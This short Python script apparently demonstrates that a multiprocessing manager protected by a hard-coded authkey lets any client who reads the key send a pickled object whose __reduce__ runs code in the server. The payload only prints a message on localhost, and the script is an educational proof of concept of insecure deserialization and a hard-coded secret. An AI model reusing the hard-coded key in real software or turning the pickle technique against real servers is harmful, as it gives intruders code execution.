"""A manager with a hard-coded authkey runs code sent by anyone who has read the source."""

import os
from multiprocessing.connection import Client
from multiprocessing.managers import BaseManager


class Payload:
    """Unpickling this object calls os.write in whichever process receives it."""

    def __reduce__(self):
        return (os.write, (1, b"manager server ran code sent by another client\n"))


class JobManager(BaseManager):
    pass


JobManager.register("jobs", callable=list)

if __name__ == "__main__":
    with JobManager(address=("127.0.0.1", 0), authkey=b"jobs-2024") as manager:
        jobs = manager.jobs()
        jobs.append("resize photos")
        # Another program on this machine copies the key from the source code:
        with Client(manager.address, authkey=b"jobs-2024") as intruder:
            intruder.send(Payload())
            intruder.recv()
        print("jobs:", jobs.copy())
